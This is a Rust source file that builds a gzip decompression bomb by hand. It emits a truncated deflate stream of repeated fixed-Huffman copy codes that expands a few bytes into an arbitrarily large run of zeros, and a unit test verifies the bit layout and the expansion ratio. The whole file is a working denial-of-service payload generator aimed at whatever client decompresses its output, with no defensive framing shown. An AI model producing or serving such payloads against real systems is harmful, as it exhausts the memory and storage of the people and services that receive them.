//! A gzip bomb: a small stream that decompresses to many zeros, encoded by hand.

/// The number of zeros in one unit.
const UNIT_ZEROS: u64 = 258 * 8;

/// Eight times "repeat the last byte 258 times" in the fixed code of deflate: 13 bits each, so that
/// eight of them fill whole bytes.
const UNIT: [u8; 13] = unit();

/// The gzip header: deflate, no name, no time.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// A gzip stream that decompresses to at least this many zeros and is then cut off: a client that reaches the
/// end has decompressed too much already.
pub(crate) fn bomb(zeros: u64) -> Vec<u8> {
    let mut bytes = HEADER.to_vec();
    // The bits, lowest first: last block (1), fixed code (01), a zero (00110000), and five bits of the
    // repeat code, so that units start at a byte.
    bytes.extend_from_slice(&first_bytes());
    let units = zeros.div_ceil(UNIT_ZEROS);
    for _ in 0..units {
        bytes.extend_from_slice(&UNIT);
    }
    bytes
}

/// The code for a length of 258 (11000101, highest bit first) and the distance 1 (00000).
const REPEAT: [bool; 13] = [
    true, true, false, false, false, true, false, true, false, false, false, false, false,
];

/// The offset of the first unit in the repeat code: after the three bits of the block header and the
/// eight bits of the first zero, five more bits fill the second byte.
const SHIFT: usize = 5;

const fn unit() -> [u8; 13] {
    let mut bytes = [0; 13];
    let mut bit = 0;
    while bit < 13 * 8 {
        if REPEAT[(bit + SHIFT) % 13] {
            bytes[bit / 8] |= 1 << (bit % 8);
        }
        bit += 1;
    }
    bytes
}

fn first_bytes() -> [u8; 2] {
    let zero = [false, false, true, true, false, false, false, false];
    let block = [true, true, false];
    let bits = block.iter().chain(&zero).chain(&REPEAT[..SHIFT]);
    let mut bytes = [0; 2];
    for (index, _) in bits.enumerate().filter(|(_, bit)| **bit) {
        bytes[index / 8] |= 1 << (index % 8);
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_decompresses_to_the_requested_number_of_zeros() {
        for zeros in [1, UNIT_ZEROS, 1_000_000] {
            let packed = bomb(zeros);
            let (header, stream) = packed.split_at(HEADER.len());
            assert_eq!(header[..3], [0x1f, 0x8b, 8]);
            let bits: Vec<bool> = stream
                .iter()
                .flat_map(|byte| (0..8).map(move |bit| byte >> bit & 1 == 1))
                .collect();
            assert_eq!(bits[..3], [true, true, false]);
            assert_eq!(
                bits[3..11],
                [false, false, true, true, false, false, false, false]
            );
            let (repeats, _) = bits[11..].as_chunks::<13>();
            assert!(repeats.iter().all(|bits| *bits == REPEAT));
            let unpacked = 1 + 258 * repeats.len() as u64;
            assert!(
                (zeros..zeros + 2 * UNIT_ZEROS).contains(&unpacked),
                "{unpacked}"
            );
        }
    }
}
